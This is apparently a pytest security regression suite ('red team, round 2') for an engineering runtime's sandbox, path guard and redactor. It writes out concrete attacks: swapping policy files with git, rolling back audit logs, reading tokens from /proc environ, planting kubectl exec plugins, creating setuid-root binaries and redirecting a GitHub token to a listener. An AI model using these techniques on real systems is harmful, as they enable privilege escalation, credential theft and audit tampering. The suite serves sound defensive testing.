"""Red team, round 2: what still gets past the sandbox, the path guard and the redactor.

Each test asserts the secure behaviour and fails on the code it was written against.
Real binaries (git, jq), a private Home, no network.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import tempfile
from pathlib import Path
from typing import Any

import pytest

from support.listeners import hanging_proxy

GIT_IDENTITY = {
    "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.com",
    "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.com",
}  # fmt: skip
WIDE_POLICY = "schema_version: 3\nfile_policy:\n  read_roots: [/]\n  write_roots: [/]\n"


def narrow_policy(path: Path, binaries: str = "git, jq") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(
        f"schema_version: 3\nallowed_binaries: [{binaries}]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    return path


def capability(work: Path, name: str, steps: list[list[str]]) -> Path:
    body = "".join(f"  - binary: git\n    args: {json.dumps(args)}\n" for args in steps)
    path = work / name
    path.write_text(f"# {name}\n\n```runtime\nversion: v1\nworkflow:\n{body}```\n")
    return path


# --- a child moves the runtime's own files from under the masks -------------------------------


def test_git_cannot_replace_the_policy_by_moving_its_directory(
    runtime: Any, work: Path, tmp_path: Path
) -> None:
    """Only git read/write commands: `git mv conf conf.old` moves the directory that holds the
    policy document (the /dev/null mask travels with it), then `git checkout HEAD --
    conf/policy.yaml` writes a policy of the attacker's choosing where the runtime reads it."""
    policy = narrow_policy(work / "conf" / "policy.yaml")
    original = policy.read_text()
    outside = tmp_path / "outside"
    outside.mkdir()
    env = {"RUNTIME_POLICY_FILE": str(policy), **GIT_IDENTITY}
    assert runtime("command", "run", "git", "init", "-q", env=env).code == 0
    assert runtime("files", "write", "evil.yaml", WIDE_POLICY, env=env).code == 0
    blob = runtime("command", "run", "git", "hash-object", "-w", "evil.yaml", env=env)
    entry = f"100644,{blob.stdout.strip()},conf/policy.yaml"
    indexed = runtime(
        "command", "run", "git", "update-index", "--add", "--cacheinfo", entry, env=env
    )
    assert indexed.code == 0, indexed
    assert runtime("command", "run", "git", "commit", "-qm", "x", env=env).code == 0
    swap = capability(
        work,
        "swap.md",
        [["mv", "conf", "conf.old"], ["checkout", "HEAD", "--", "conf/policy.yaml"]],
    )
    runtime("capability", "execute", str(swap), env=env)
    assert policy.read_text() == original
    escaped = runtime("files", "write", str(outside / "pwned"), "x", env=env)
    assert escaped.code != 0 and not (outside / "pwned").exists(), escaped


def test_git_cannot_swap_a_symlink_on_the_policy_path(
    runtime: Any, work: Path, tmp_path: Path
) -> None:
    """RUNTIME_POLICY_FILE names the policy through a symlinked directory inside the write
    root: the files provider refuses to replace the link, and no child runs at all while a
    child could (git's checkout would re-point it)."""
    narrow_policy(work / "conf" / "policy.yaml")
    (work / "link").symlink_to("conf")
    env = {"RUNTIME_POLICY_FILE": str(work / "link" / "policy.yaml"), **GIT_IDENTITY}
    assert runtime("files", "write", "link", "x", env=env).code == 4  # the guard knows
    refused = runtime("command", "run", "git", "init", "-q", env=env)
    assert refused.code == 4, refused
    assert "symbolic link" in refused.stdout + refused.stderr
    assert str(work / "link") in refused.stdout + refused.stderr
    assert not (work / ".git").exists()
    assert os.readlink(work / "link") == "conf"


def test_git_cannot_move_the_home_and_its_audit_trail_away(
    runtime: Any, work: Path, tmp_path: Path
) -> None:
    """The Home below a subdirectory of the write root: `git mv sub sub2` takes the Home and
    the audit trail with it; the next command bootstraps an empty Home in its place and the
    old trail is an ordinary file any command may read or rewrite."""
    home = work / "sub" / "home"
    policy = narrow_policy(tmp_path / "policy.yaml")
    env = {"ENGINEERING_RUNTIME_HOME": str(home), "RUNTIME_POLICY_FILE": str(policy)}
    assert runtime("command", "run", "git", "init", "-q", env=env).code == 0
    assert runtime("files", "write", "sub/keep.txt", "k", env=env).code == 0
    assert runtime("command", "run", "git", "add", "sub/keep.txt", env=env).code == 0
    before = (home / "audit.jsonl").read_text().splitlines()
    runtime("command", "run", "git", "mv", "sub", "sub2", env=env)
    trail = home / "audit.jsonl"
    assert trail.exists() and trail.read_text().splitlines()[: len(before)] == before
    assert runtime("files", "read", "sub2/home/audit.jsonl", env=env).code != 0


# --- without a working sandbox, a child reaches the runtime's own files ------------------------


@pytest.fixture
def no_bwrap(tmp_path: Path) -> Path:
    """A trusted directory holding the tools but not bwrap: `auto` runs read/write unconfined."""
    bin_dir = tmp_path / "nobwrap-bin"
    bin_dir.mkdir()
    for tool in ("git", "jq"):
        real = subprocess.run(["which", tool], capture_output=True, text=True).stdout.strip()
        os.symlink(real, bin_dir / tool)
    return bin_dir


def test_unconfined_jq_cannot_read_the_audit_trail_under_a_root(
    runtime: Any, work: Path, tmp_path: Path, no_bwrap: Path
) -> None:
    """DESIGN.md 6: the runtime's own files are never reachable through a child, whatever the
    roots say. With `auto` and no bwrap, a read command runs unconfined and reads them."""
    home = work / ".engineering-runtime"
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [git, jq]\n"
        f"command_policy:\n  search_path: [{no_bwrap}]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    env = {"ENGINEERING_RUNTIME_HOME": str(home), "RUNTIME_POLICY_FILE": str(policy)}
    assert runtime("files", "write", "x.txt", "x", env=env).code == 0  # the trail exists
    read = runtime("command", "run", "jq", "-Rr", ".", ".engineering-runtime/audit.jsonl", env=env)
    assert '"operation"' not in read.stdout, read


def test_unconfined_git_cannot_create_repositories_outside_the_write_roots(
    runtime: Any, work: Path, tmp_path: Path, no_bwrap: Path
) -> None:
    """With `auto` and no bwrap, a `write` git command runs unconfined: its positional
    destinations (`clone SRC DIR`, `init DIR`, `-C DIR init`) are judged by nothing, so git
    writes wherever it is told, while the floor refuses `archive -o`/`format-patch -o`."""
    outside = tmp_path / "outside"
    outside.mkdir()
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [git]\n"
        f"command_policy:\n  search_path: [{no_bwrap}]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    env = {"RUNTIME_POLICY_FILE": str(policy), **GIT_IDENTITY}
    assert runtime("command", "run", "git", "init", "-q", env=env).code == 0
    runtime("command", "run", "git", "clone", "-q", ".", str(outside / "cloned"), env=env)
    runtime("command", "run", "git", "init", "-q", str(outside / "initialised"), env=env)
    runtime("command", "run", "git", "-C", str(outside), "init", "-q", env=env)
    assert sorted(p.name for p in outside.iterdir()) == []


# --- credentials in URLs that the redactor does not recognise ----------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://{secret}@github.com/o/r.git",  # a token as the user name: git and GitHub accept it
        "https://{secret}:x-oauth-basic@github.com/o/r.git",  # the user part is kept
    ],
)
def test_a_credential_in_the_user_part_of_a_url_is_masked(runtime: Any, url: str) -> None:
    secret = "0123456789abcdef0123456789abcdef01234567"  # a 40-hex classic OAuth token
    text = url.format(secret=secret)
    assert runtime("files", "write", "remote.txt", text).code == 0
    for output in ("text", "json", "raw"):
        shown = runtime("--output", output, "files", "read", "remote.txt")
        assert secret not in shown.stdout + shown.stderr, (output, shown)


# --- gh's private hosts file, seen by another runtime's child ---------------------------------


HANDED_GLOBS = ("runtime-gh-config-*", "runtime-handed-*")


def _handed_directories() -> set[str]:
    """What the runtime made in the temporary directory (this session's own TMPDIR)."""
    import glob

    host_tmp = tempfile.gettempdir()
    return {found for pattern in HANDED_GLOBS for found in glob.glob(f"{host_tmp}/{pattern}")}


def _bytes_of_new_entries(before: set[str]) -> bytes:
    """Every regular file (links not followed) under the entries of the temporary directory
    made since BEFORE, read as this test's own (root) user: a stronger reader than any child."""
    found: list[bytes] = []
    host_tmp = tempfile.gettempdir()
    for entry in set(os.listdir(host_tmp)) - before:
        for directory, _, names in os.walk(os.path.join(host_tmp, entry)):
            for name in names:
                path = os.path.join(directory, name)
                if os.path.isfile(path) and not os.path.islink(path):
                    with contextlib.suppress(OSError), open(path, "rb") as handle:
                        found.append(handle.read(1 << 20))
    return b"".join(found)


@pytest.mark.parametrize("runtime_a", ["sandboxed", "unconfined"])
def test_another_runtimes_child_cannot_read_ghs_private_hosts_file(
    runtime: Any, work: Path, tmp_path: Path, home: Path, runtime_a: str
) -> None:
    """Runtime A hands gh a token while gh waits on a proxy that never answers. A child of
    runtime B (no token at all, a read root of /: supported, the own files stay hidden)
    searches the host's temporary directories, following links, and reads whatever A
    left there, re-encoded past the redactor.

    Sandboxed, A's hosts file exists only inside gh's sandbox (bwrap copies it in from a
    memory descriptor); unconfined, A's private directory holds a link to
    /proc/self/fd/N, which for any other reader names its own descriptor."""
    import base64
    import signal
    import time

    from support.cli import RUNTIME, clean_env
    from support.github_standin.fixtures import require_gh

    require_gh()
    token = "ghp_" + "R3dT3am" * 5 + "x"
    policy_b = tmp_path / "policy-b.yaml"
    policy_b.write_text(
        "schema_version: 3\nallowed_binaries: [gh, jq]\n"
        "file_policy:\n  read_roots: [/]\n  write_roots: [.]\n"
    )
    policy_a = tmp_path / "policy-a.yaml"
    search = ""
    if runtime_a == "unconfined":
        bin_dir = tmp_path / "nobwrap-bin"
        bin_dir.mkdir()
        real = subprocess.run(["which", "gh"], capture_output=True, text=True).stdout.strip()
        os.symlink(real, bin_dir / "gh")
        search = f"command_policy:\n  search_path: [{bin_dir}]\n"
    policy_a.write_text(
        f"schema_version: 3\nallowed_binaries: [gh]\n{search}"
        "file_policy:\n  read_roots: [/]\n  write_roots: [.]\n"
    )
    server, port, held = hanging_proxy()
    proxy = f"http://127.0.0.1:{port}"
    before = _handed_directories()
    tmp_before = set(os.listdir(tempfile.gettempdir()))
    env_a = clean_env(
        tmp_path / "home-a", RUNTIME_POLICY_FILE=str(policy_a), RUNTIME_GITHUB_TOKEN=token,
        HTTPS_PROXY=proxy, https_proxy=proxy, NO_PROXY="", no_proxy="",
    )  # fmt: skip
    runtime_a_process = subprocess.Popen(
        [RUNTIME, "command", "run", "gh", "api", "/user"],
        cwd=work, env=env_a, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    try:
        for _ in range(600):  # wait (bounded) until gh, token in hand, talks to the proxy
            if held or runtime_a_process.poll() is not None:
                break
            time.sleep(0.05)
        assert held, "gh of runtime A never reached the proxy"
        handed = sorted(_handed_directories() - before)
        assert handed == [] if runtime_a == "sandboxed" else len(handed) == 1, handed
        assert token.encode() not in _bytes_of_new_entries(tmp_before)
        env_b = {"RUNTIME_POLICY_FILE": str(policy_b)}
        for directory in handed:
            for name in os.listdir(directory):
                path = os.path.join(directory, name)
                assert os.path.islink(path)  # a link to the reader's own descriptor, no bytes
                read = runtime("command", "run", "jq", "-Rr", "@base64", path, env=env_b)
                decoded = b"".join(base64.b64decode(line) for line in read.stdout.split())
                assert token.encode() not in decoded, read
    finally:
        os.killpg(runtime_a_process.pid, signal.SIGTERM)
        runtime_a_process.wait(timeout=30)
        server.close()
    assert _handed_directories() - before == set()  # removed once gh is done


def test_unconfined_git_cannot_roll_back_the_audit_trail_under_a_root(
    runtime: Any, work: Path, tmp_path: Path, no_bwrap: Path
) -> None:
    """`auto` without bwrap: `git add -f` the trail, commit, and `git checkout --` it later
    drops every record written since, with only read/write git commands."""
    home = work / ".engineering-runtime"
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [git]\n"
        f"command_policy:\n  search_path: [{no_bwrap}]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    env = {
        "ENGINEERING_RUNTIME_HOME": str(home),
        "RUNTIME_POLICY_FILE": str(policy),
        **GIT_IDENTITY,
    }
    runtime("command", "run", "git", "init", "-q", env=env)
    runtime("command", "run", "git", "add", "-f", ".engineering-runtime/audit.jsonl", env=env)
    runtime("command", "run", "git", "commit", "-qm", "x", env=env)
    assert runtime("files", "write", "a.txt", "a", env=env).code == 0
    before = (home / "audit.jsonl").read_text().splitlines()
    runtime("command", "run", "git", "checkout", "--", ".engineering-runtime/audit.jsonl", env=env)
    after = (home / "audit.jsonl").read_text().splitlines()
    assert after[: len(before)] == before, "records were dropped from the audit trail"


@pytest.mark.parametrize("variable", ["GITHUB_TOKEN", "GH_TOKEN", "GH_ENTERPRISE_TOKEN"])
def test_unconfined_child_cannot_read_other_token_variables_from_the_runtime(
    variable: str, tmp_path: Path, no_bwrap: Path, home: Path, work: Path
) -> None:
    """Only the configured variable (RUNTIME_GITHUB_TOKEN) is taken out of the runtime's
    environment block; GITHUB_TOKEN (set in every GitHub Actions job), GH_TOKEN and
    GH_ENTERPRISE_TOKEN stay in /proc/<runtime pid>/environ for an unconfined child."""
    from support.cli import RUNTIME, clean_env

    token = "ghp_" + "Sh4d0w" * 6
    policy = tmp_path / "policy.yaml"
    # /proc as a read root: without the sandbox, arguments naming paths outside the roots
    # are refused (test_unconfined_jq_cannot_read_a_file_outside_the_roots); this one
    # shows the environment block holds no token even for a child allowed to read it.
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [jq]\n"
        f"command_policy:\n  search_path: [{no_bwrap}]\n"
        "file_policy:\n  read_roots: [., /proc]\n  write_roots: [.]\n"
    )
    proc = subprocess.run(
        ["/bin/sh", "-c", 'exec "$0" command run jq -Rr "explode | reverse | implode" '
         "/proc/$$/environ", RUNTIME],
        cwd=work,
        env=clean_env(home, RUNTIME_POLICY_FILE=str(policy), **{variable: token}),
        capture_output=True,
        text=True,
        timeout=60,
    )  # fmt: skip
    assert "ENGINEERING_RUNTIME_HOME"[::-1] in proc.stdout, proc  # the runtime's own block
    assert token[::-1] not in proc.stdout


# --- the runtime's own writers, pointed at the runtime's own files -----------------------------


def test_config_init_cannot_overwrite_the_policy_in_force(runtime: Any, tmp_path: Path) -> None:
    """`config init policy --output "$RUNTIME_POLICY_FILE" --force` replaces a narrow policy
    (jq only) with the compiled defaults: git, gh, kubectl, terraform ... all allowed."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [jq]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    original = policy.read_text()
    env = {"RUNTIME_POLICY_FILE": str(policy)}
    assert runtime("command", "run", "git", "--version", env=env).code == 4
    runtime("config", "init", "policy", "--output", str(policy), "--force", env=env)
    assert policy.read_text() == original
    assert runtime("command", "run", "git", "--version", env=env).code == 4


@pytest.mark.parametrize("writer", ["plan-out", "config-init"])
@pytest.mark.parametrize("spelling", ["hard-link", "symlink"])
def test_the_runtimes_own_writers_refuse_another_name_for_the_audit_trail(
    runtime: Any, work: Path, home: Path, writer: str, spelling: str
) -> None:
    """A second hard link (or a symlink) to the trail inside the write root: the path guard's
    own-files check answers for `config init --output` as it does for `plan --out`."""
    assert runtime("files", "write", "a.txt", "a").code == 0
    trail = home / "audit.jsonl"
    alias = work / "notes.jsonl"
    os.link(trail, alias) if spelling == "hard-link" else alias.symlink_to(trail)
    before = trail.read_text()
    if writer == "plan-out":
        (work / "c.md").write_text(
            "# c\n\n```runtime\nversion: v1\nworkflow:\n"
            "  - provider: files\n    args: [read, ./a.txt]\n```\n"
        )
        ran = runtime("capability", "plan", "./c.md", "--out", "notes.jsonl")
    else:
        ran = runtime("config", "init", "config", "--output", "notes.jsonl", "--force")
    assert ran.code in (1, 4), ran
    if spelling == "hard-link" or writer == "config-init":
        assert ran.code == 4 and "runtime own files" in ran.stderr, ran
    assert trail.read_text() == before


@pytest.mark.parametrize("writer", ["plan-out", "config-init"])
def test_the_runtimes_own_writers_cannot_overwrite_the_audit_trail(
    runtime: Any, work: Path, home: Path, writer: str
) -> None:
    assert runtime("files", "write", "a.txt", "a").code == 0
    trail = home / "audit.jsonl"
    before = trail.read_text().splitlines()
    if writer == "plan-out":
        (work / "c.md").write_text(
            "# c\n\n```runtime\nversion: v1\nworkflow:\n"
            "  - provider: files\n    args: [read, ./a.txt]\n```\n"
        )
        runtime("capability", "plan", "./c.md", "--out", str(trail))
    else:
        runtime("config", "init", "config", "--output", str(trail), "--force")
    after = trail.read_text().splitlines()
    assert after[: len(before)] == before, "the audit trail was overwritten"
    assert all(line.startswith("{") for line in after)


def test_plan_out_cannot_write_outside_the_write_roots(
    runtime: Any, work: Path, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (work / "c.md").write_text(
        "# c\n\n```runtime\nversion: v1\nworkflow:\n"
        "  - provider: files\n    args: [read, ./a.txt]\n```\n"
    )
    refused = runtime("capability", "plan", "./c.md", "--out", str(outside / "plan.json"))
    assert not (outside / "plan.json").exists()
    assert refused.code == 4 and "file_policy.write_roots" in refused.stderr, refused


@pytest.mark.parametrize("spelling", ["dotdot", "symlinked-dir", "symlinked-parent"])
def test_plan_out_cannot_reach_outside_the_write_roots_by_another_spelling(
    runtime: Any, work: Path, tmp_path: Path, spelling: str
) -> None:
    """`..`, a link to a directory outside the root, a link as the parent of the file."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (work / "c.md").write_text(
        "# c\n\n```runtime\nversion: v1\nworkflow:\n"
        "  - provider: files\n    args: [read, ./a.txt]\n```\n"
    )
    (work / "away").symlink_to(outside)
    (work / "sub").mkdir()
    (work / "sub" / "up").symlink_to("../../outside")
    out = {
        "dotdot": "../outside/plan.json",
        "symlinked-dir": "away/plan.json",
        "symlinked-parent": "sub/up/plan.json",
    }[spelling]
    refused = runtime("--output", "json", "capability", "plan", "./c.md", "--out", out)
    assert refused.code == 4, refused
    assert "file_policy.write_roots" in refused.json["error"]["message"]
    assert list(outside.iterdir()) == []


def test_a_root_inside_the_home_does_not_show_the_home_to_a_child(
    runtime: Any, home: Path, tmp_path: Path
) -> None:
    """The masks cover an own file only when it lies inside a mounted root; a root *inside*
    the Home is mounted as it is, so the child sees and writes what the files provider
    refuses as the runtime's own (`files list <home>/specs` is refused)."""
    assert runtime("version").code == 0
    specs, cache = home / "specs", home / "capabilities"
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [ls, git]\n"
        f"file_policy:\n  read_roots: [., {specs}]\n  write_roots: [., {cache}]\n"
    )
    env = {"RUNTIME_POLICY_FILE": str(policy)}
    assert runtime("files", "list", str(specs), env=env).code == 4
    listed = runtime("command", "run", "ls", str(specs), env=env)
    assert "capability-spec.md" not in listed.stdout, listed
    runtime("command", "run", "git", "init", "-q", str(cache / "planted"), env=env)
    assert not (cache / "planted").exists()


def test_unconfined_kubectl_cannot_plant_and_run_an_exec_credential_plugin(
    runtime: Any, work: Path, tmp_path: Path
) -> None:
    """Issue 12's kubectl channel, with `auto` and no bwrap: `kubectl config` (write) and
    `kubectl get` (read) run unconfined with the caller's HOME, so the plugin planted in
    ~/.kube/config runs on the next read, outside every root."""
    bin_dir = tmp_path / "nobwrap-bin"
    bin_dir.mkdir()
    real = subprocess.run(["which", "kubectl"], capture_output=True, text=True).stdout.strip()
    os.symlink(real, bin_dir / "kubectl")
    marker = tmp_path / "outside-kube-pwned"
    caller_home = tmp_path / "caller-home"
    caller_home.mkdir()
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [kubectl]\n"
        f"command_policy:\n  search_path: [{bin_dir}]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    env = {"RUNTIME_POLICY_FILE": str(policy), "HOME": str(caller_home)}
    for args in (
        ["config", "set-credentials", "u", "--exec-command=/usr/bin/touch",
         f"--exec-arg={marker}", "--exec-api-version=client.authentication.k8s.io/v1beta1"],
        ["config", "set-cluster", "c", "--server=https://127.0.0.1:1"],
        ["config", "set-context", "x", "--cluster=c", "--user=u"],
        ["config", "use-context", "x"],
        ["get", "pods", "--request-timeout=2s"],
    ):  # fmt: skip
        runtime("command", "run", "kubectl", *args, env=env)
    assert not marker.exists(), "the planted exec credential plugin ran unconfined"
    assert not (caller_home / ".kube").exists(), "kubectl wrote outside the write roots"


# --- the kernel's own settings, writable from inside the sandbox -------------------------------


def test_a_sandboxed_child_cannot_open_kernel_settings_for_writing(
    runtime: Any, work: Path
) -> None:
    """The child runs as uid 0 in the host's user namespace, and bwrap's --proc leaves
    /proc/sys writable: kernel.core_pattern or kernel.modprobe set to a program in a write
    root would run it as host root, outside every namespace, on the next crash. Probed by
    opening for append without writing a byte (the settings are never changed)."""
    probe = (
        "for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe; do "
        "if true 2>/dev/null 3>>$f; then echo open $f; fi; done > probe.txt"
    )
    (work / "main.tf").write_text(
        'resource "terraform_data" "probe" {\n'
        f'  provisioner "local-exec" {{\n    command = "{probe}"\n  }}\n}}\n'
    )
    assert runtime("command", "run", "terraform", "init", "-input=false").code == 0
    applied = runtime("command", "run", "terraform", "apply", "-auto-approve", "-input=false")
    assert applied.code == 0, applied
    assert (work / "probe.txt").exists()
    assert (work / "probe.txt").read_text() == "", (work / "probe.txt").read_text()


def test_a_sandboxed_child_cannot_leave_a_setuid_program_in_a_write_root(
    runtime: Any, work: Path
) -> None:
    """No user namespace: a child of a runtime run as root is host root (capabilities
    dropped, uid kept), so the files it makes are root's and it may set their setuid bit.
    A copy of a program left setuid-root in the work tree gives any local user euid 0."""
    import stat

    (work / "main.tf").write_text(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        '    command = "cp /usr/bin/id ./rootid; chmod 4755 ./rootid"\n  }\n}\n'
    )
    assert runtime("command", "run", "terraform", "init", "-input=false").code == 0
    runtime("command", "run", "terraform", "apply", "-auto-approve", "-input=false")
    planted = work / "rootid"
    assert planted.exists()  # the copy was made; only the mode was refused
    status = planted.stat()
    assert not status.st_mode & (stat.S_ISUID | stat.S_ISGID), "a setuid or setgid file"


@pytest.mark.parametrize(
    "template",
    [
        '{{"Authorization": ["Bearer {secret}"]}}',  # an http.Header marshalled to JSON
        "map[Authorization:[token {secret}]]",  # an http.Header printed by Go (gh is Go)
        "Authorization: Bearer  {secret}",  # two spaces after the scheme
        'Authorization: Digest username="u", response="{secret}"',
    ],
)
def test_authorization_header_values_in_other_shapes_are_masked(
    runtime: Any, template: str
) -> None:
    secret = "n0tAGitHubShapeButAHeaderCredential42"
    assert runtime("files", "write", "headers.txt", template.format(secret=secret)).code == 0
    for output in ("text", "json", "raw"):
        shown = runtime("--output", output, "files", "read", "headers.txt")
        assert secret not in shown.stdout + shown.stderr, (output, shown)


def test_git_cannot_replace_the_config_and_send_the_token_to_a_listener(
    runtime: Any, work: Path
) -> None:
    """The same move as the policy's, on RUNTIME_CONFIG_FILE: the planted config points
    base_url at a loopback listener (http is allowed there), and the next GitHub call sends
    the caller's token to it."""
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(30)
    received: list[bytes] = []

    def answer() -> None:
        while True:  # every request the runtime makes, until the test closes the listener
            try:
                conn = server.accept()[0]
            except OSError:
                return
            received.append(conn.recv(65536))
            conn.sendall(
                b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            conn.close()

    listener = threading.Thread(target=answer, daemon=True)
    listener.start()
    config = work / "conf" / "config.yaml"
    config.parent.mkdir()
    config.write_text("schema_version: 2\n")
    env = {"RUNTIME_CONFIG_FILE": str(config), **GIT_IDENTITY}
    planted = (
        "schema_version: 2\nauthentication:\n  github:\n"
        f"    base_url: http://127.0.0.1:{server.getsockname()[1]}\n"
    )
    assert runtime("command", "run", "git", "init", "-q", env=env).code == 0
    assert runtime("files", "write", "evil.yaml", planted, env=env).code == 0
    blob = runtime("command", "run", "git", "hash-object", "-w", "evil.yaml", env=env)
    entry = f"100644,{blob.stdout.strip()},conf/config.yaml"
    runtime("command", "run", "git", "update-index", "--add", "--cacheinfo", entry, env=env)
    assert runtime("command", "run", "git", "commit", "-qm", "x", env=env).code == 0
    swap = capability(
        work,
        "swap.md",
        [["mv", "conf", "conf.old"], ["checkout", "HEAD", "--", "conf/config.yaml"]],
    )
    runtime("capability", "execute", str(swap), env=env)
    token = "ghp_" + "V1ct1m" * 6
    runtime("github", "repo", "view", "acme/x", env={**env, "RUNTIME_GITHUB_TOKEN": token})
    server.shutdown(socket.SHUT_RDWR)  # wakes the accept() of the listener thread
    server.close()
    listener.join(timeout=30)
    assert not any(token.encode() in request for request in received)
